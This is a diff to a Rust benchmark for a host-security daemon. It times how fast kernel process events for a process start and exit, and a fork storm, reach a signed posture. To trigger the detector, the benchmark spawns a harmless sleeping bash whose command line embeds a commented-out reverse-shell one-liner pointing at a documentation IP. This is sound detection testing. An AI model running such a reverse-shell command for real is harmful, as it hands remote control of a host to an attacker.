@@ -1,11 +1,14 @@
 //! From a change on disk (or a process start) to a new signed attestation whose posture
 //! shows it, through `GetPosture`; idle CPU with all watchers; CPU and memory through a
-//! 50,000-file write storm in a watched tree.
-//! Run: `cargo bench -p clawsecd --bench events` (about four minutes).
+//! 50,000-file write storm in a watched tree; and, as root, process starts and exits on the
+//! live host seen through the kernel's process connector.
+//! Run: `cargo bench -p clawsecd --bench events` (about five minutes);
+//! `-- --kernel` runs only the live-host kernel-events part.
 
 #![allow(clippy::unwrap_used)]
 
 use std::os::unix::fs::PermissionsExt;
+use std::os::unix::process::CommandExt;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 use std::time::{Duration, Instant};
@@ -117,6 +120,13 @@ fn write_proc(host: &Path, pid: u32, cmd: &[&str]) {
     std::fs::write(d.join("cmdline"), line).unwrap();
 }
 
+fn runtime() -> tokio::runtime::Runtime {
+    tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap()
+}
+
 struct Kill(Child);
 impl Drop for Kill {
     fn drop(&mut self) {
@@ -126,6 +136,116 @@ impl Drop for Kill {
 }
 
 fn main() {
+    if !std::env::args().any(|a| a == "--kernel") {
+        fixture_host();
+    }
+    live_kernel_events();
+}
+
+/// Process starts and exits on the live host, through the kernel's process connector: the
+/// `/proc` poll and the incident schedule are ten minutes away, so only kernel events can
+/// make them show up. Needs root (the connector needs CAP_NET_ADMIN).
+fn live_kernel_events() {
+    if !nix::unistd::geteuid().is_root() {
+        println!("kernel process events: skipped (needs root)");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let sock = dir.path().join("s.sock");
+    std::fs::write(
+        dir.path().join("c.toml"),
+        format!(
+            "state_dir = {:?}\nsocket = {:?}\n[events]\nproc_poll_ms = 600000\n[schedule]\nincident = 600\n",
+            dir.path().join("state").display().to_string(),
+            sock.display().to_string()
+        ),
+    )
+    .unwrap();
+    let log = dir.path().join("daemon.log");
+    let daemon = Kill(
+        Command::new(env!("CARGO_BIN_EXE_clawsecd"))
+            .arg("--config")
+            .arg(dir.path().join("c.toml"))
+            .env("RUST_LOG", "info")
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(&log).unwrap())
+            .spawn()
+            .unwrap(),
+    );
+    // The socket is bound before the watchers start; their log lines say when they have.
+    let start = Instant::now();
+    let text = loop {
+        let text = std::fs::read_to_string(&log).unwrap();
+        if text.contains("process events") {
+            break text;
+        }
+        assert!(start.elapsed() < Duration::from_secs(60), "{text}");
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    if !text.contains("following the kernel's process events") {
+        println!("kernel process events: skipped (no process connector here)");
+        return;
+    }
+    runtime().block_on(async {
+        let mut c = client(&sock).await;
+        tokio::time::sleep(Duration::from_millis(500)).await;
+        let (mut starts, mut exits) = (Vec::new(), Vec::new());
+        for _ in 0..100 {
+            // Let the previous trial's exits (and the rate gate after them) settle, so each
+            // trial starts on a quiet host.
+            tokio::time::sleep(Duration::from_millis(400)).await;
+            let seq = current_seq(&mut c).await;
+            let t = Instant::now();
+            // Harmless (it sleeps), but its command line is a classic reverse shell.
+            let shell = Command::new("bash")
+                .args(["-c", "sleep 60; true # bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"])
+                .process_group(0)
+                .spawn()
+                .unwrap();
+            let seq = wait(&mut c, "INC-001", pb::CheckStatus::Fail, seq).await;
+            starts.push(t.elapsed());
+            // Settle again (bash has started its sleep meanwhile), then end the shell
+            // itself: a signal, no new process.
+            tokio::time::sleep(Duration::from_millis(400)).await;
+            let mut shell = Kill(shell);
+            let t = Instant::now();
+            shell.0.kill().unwrap();
+            wait(&mut c, "INC-001", pb::CheckStatus::Pass, seq).await;
+            exits.push(t.elapsed());
+            // Its orphaned sleep is harmless; end it outside the measurement.
+            Command::new("kill")
+                .args(["-9", "--", &format!("-{}", shell.0.id())])
+                .status()
+                .unwrap();
+        }
+        println!("kernel process event (reverse shell starts, live host) -> signed posture: n=100 p50 {:.0} ms p99 {:.0} ms max {:.0} ms", pct(&mut starts, 0.5), pct(&mut starts, 0.99), pct(&mut starts, 1.0));
+        println!("kernel process event (it exits) -> signed posture: n=100 p50 {:.0} ms p99 {:.0} ms max {:.0} ms", pct(&mut exits, 0.5), pct(&mut exits, 0.99), pct(&mut exits, 1.0));
+    });
+
+    // A fork storm: short processes as fast as one shell can start them, for 10 s.
+    let pid = daemon.0.id();
+    let t0 = cpu_ticks(pid);
+    let storm = Command::new("bash")
+        .args([
+            "-c",
+            "end=$((SECONDS+10)); n=0; while [ $SECONDS -lt $end ]; do /bin/true; n=$((n+1)); done; echo $n",
+        ])
+        .output()
+        .unwrap();
+    std::thread::sleep(Duration::from_secs(5));
+    let ticks = cpu_ticks(pid) - t0;
+    println!(
+        "fork storm: {} short processes in 10 s (kernel events); daemon CPU {:.1} s over the storm and 5 s after ({:.0}% of one core); VmHWM {} KiB, VmRSS after {} KiB",
+        String::from_utf8_lossy(&storm.stdout).trim(),
+        ticks as f64 / 100.0,
+        ticks as f64 / 100.0 / 15.0 * 100.0,
+        status_kib(pid, "VmHWM:"),
+        status_kib(pid, "VmRSS:")
+    );
+}
+
+/// The fixture host: file events, the /proc poll, idle CPU and the write storm.
+fn fixture_host() {
     let dir = tempfile::tempdir().unwrap();
     let host: PathBuf = dir.path().join("host");
     let home = host.join("home/alice");
@@ -174,11 +294,7 @@ fn main() {
         assert!(start.elapsed() < Duration::from_secs(60));
         std::thread::sleep(Duration::from_millis(20));
     }
-    let rt = tokio::runtime::Builder::new_current_thread()
-        .enable_all()
-        .build()
-        .unwrap();
-    rt.block_on(async {
+    runtime().block_on(async {
         let mut c = client(&sock).await;
         // Let the start-up settle.
         tokio::time::sleep(Duration::from_millis(500)).await;
